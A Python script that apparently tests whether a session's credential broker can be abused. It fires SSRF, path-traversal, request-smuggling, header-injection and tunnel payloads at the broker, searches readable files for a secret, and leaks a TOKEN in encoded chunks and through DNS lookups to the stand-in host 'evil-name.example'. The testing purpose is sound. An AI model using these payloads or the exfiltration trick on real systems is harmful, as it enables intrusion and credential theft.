"""Runs in a session: tries to have its broker, or another session's, do something else with a key.

Told of the world by its one argument, JSON; says what became of each attack as JSON. No library but
the standard one. The session sees a placeholder; what it was given as a secret it says in all ways
that it knows, on stderr.
"""

from __future__ import annotations

import base64
import json
import os
import socket
import sys
import time
from pathlib import Path
from urllib.parse import quote

BROKER = ("outrig-broker", 3130)
MINE = "evil-name.example"


def ask(data: bytes, where: tuple[str, int] = BROKER) -> str:
    """The status line of the answer, and whether it says more than it should."""
    try:
        with socket.create_connection(where, 5) as line:
            line.settimeout(5)
            line.sendall(data)
            heard = b""
            while more := line.recv(65536):
                heard += more
    except OSError as error:
        return f"no: {error.strerror or error}"
    return heard.split(b"\r\n", 1)[0].decode("latin-1") or "no answer"


def get(target: str, *headers: str, method: str = "GET") -> bytes:
    head = (f"{method} {target} HTTP/1.1", "Host: x", "Connection: close", *headers, "", "")
    return "\r\n".join(head).encode("latin-1")


def smuggled(first: str) -> bytes:
    """A second request behind a body of two lengths."""
    hidden = get("/admin/smuggled")
    head = f"POST /model/v1/x HTTP/1.1\r\nHost: x\r\n{first}Transfer-Encoding: chunked\r\n\r\n"
    return head.encode() + b"0\r\n\r\n" + hidden


def tries(told: dict[str, str]) -> dict[str, str]:
    url = told["model"].removeprefix("http://")
    host, _, port = url.partition(":")
    found = {
        "another host, in absolute form": ask(get(f"http://{MINE}/v1/x")),
        "another host, with the route before it": ask(get(f"/model/http://{MINE}/v1/x")),
        "another host, as a name in the path": ask(get(f"//{MINE}/v1/x")),
        "another host, as user information": ask(get(f"/model/v1@{MINE}/x")),
        "a tunnel": ask(get(f"{host}:{port}", method="CONNECT")),
        "a tunnel by its route": ask(get("/model/v1/x", method="CONNECT")),
        "a websocket": ask(get("/model/v1/x", "Upgrade: websocket")),
        "HTTP/2 by an upgrade": ask(get("/model/v1/x", "Upgrade: h2c", "HTTP2-Settings: AA")),
        "HTTP/2 at once": ask(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
        "another path, dots": ask(get("/model/v1/../admin/dots")),
        "another path, dots escaped": ask(get("/model/v1/%2e%2e/admin/escaped")),
        "another path, escaped twice": ask(get("/model/v1/%252e%252e/admin/twice")),
        "another path, half escaped": ask(get("/model/v1/.%2E/admin/half")),
        "another path, a slash escaped": ask(get("/model/v1/..%2fadmin/slash")),
        "another path, a backslash": ask(get("/model/v1/..\\admin/back")),
        "another path, parameters": ask(get("/model/v1/..;a=b/admin/parameters")),
        "another path, two slashes": ask(get("/model//admin/slashes")),
        "another path, by a header": ask(get("/model/v1/x", "X-Original-URL: /admin/header")),
        "another method": ask(get("/model/v1/x", method="DELETE")),
        "another method, by a header": ask(get("/model/v1/x", "X-HTTP-Method-Override: DELETE")),
        "a method that echoes": ask(get("/model/v1/x", method="TRACE")),
        "another route": ask(get("/forge/v1/x")),
        "a route by its escape": ask(get("/%6dodel/v1/x")),
        "two lengths": ask(smuggled("Content-Length: 4\r\n")),
        "two lengths, the other way": ask(smuggled("Transfer-Encoding: identity\r\n")),
        "a request behind one": ask(get("/model/v1/x") + get("/admin/behind")),
        "a line end in a header": ask(get("/model/v1/x", "X: a\rGET /admin/cr HTTP/1.1")),
        "its key's header dropped": ask(get("/model/v1/x", "Connection: authorization, host")),
        "a key of its own": ask(get("/model/v1/x?key=mine", "Authorization: Bearer mine")),
        "another's host header": ask(get("/model/v1/x", f"X-Forwarded-Host: {MINE}")),
        "a head without end": ask(b"GET /model/v1/x HTTP/1.1\r\nX: " + b"a" * 300_000),
        "the model itself": ask(get("/v1/direct"), (host, int(port))),
    }
    for name in ("gateway", "agent"):
        where = (told[f"other-{name}"], BROKER[1])
        found[f"another session's broker, at its {name}"] = ask(get("/model/v1/other"), where)
    return found


def seen(value: str) -> list[str]:
    """Where a text is found: files and processes that this user can read."""
    found = []
    for top in ("/proc", "/run", "/etc", "/tmp", str(Path.home())):
        for folder, _, names in os.walk(top):
            for name in names:
                try:
                    path = Path(folder, name)
                    if path.is_file() and path.stat().st_size < 1 << 20:
                        found += [str(path)] if value.encode() in _read(path) else []
                except OSError:
                    continue
    return found


def _read(path: Path) -> bytes:
    descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
    try:
        return os.read(descriptor, 1 << 20)
    finally:
        os.close(descriptor)


def leak(value: str) -> None:
    raw = value.encode()
    ways = [
        raw,
        base64.b64encode(raw),
        base64.b64encode(b"x" + raw),
        base64.urlsafe_b64encode(b"xy" + raw),
        quote(value, safe="").encode(),
        json.dumps(value).encode(),
        b"".join(bytes((one,)) for one in raw).replace(b"\n", b"\r\n"),
    ]
    for way in ways:
        for at in range(0, len(way), 5):  # a few bytes at a time, over many chunks
            os.write(2, way[at : at + 5])
            time.sleep(0.01)
        os.write(2, b"\n")
    for name in (value, value.lower()):
        try:
            socket.getaddrinfo(f"{name}.{MINE}", 80)
        except (OSError, UnicodeError):
            continue


if __name__ == "__main__":
    told = json.loads(sys.argv[1])
    found = tries(told)
    half = told["half, backwards"][::-1]  # so that it is not found in what we were told
    found["the key in what it can read"] = " ".join(
        one for one in seen(half) if not one.startswith(("/proc/self/", f"/proc/{os.getpid()}/"))
    )
    leak(os.environ["TOKEN"])
    sys.stdout.write(json.dumps(found))
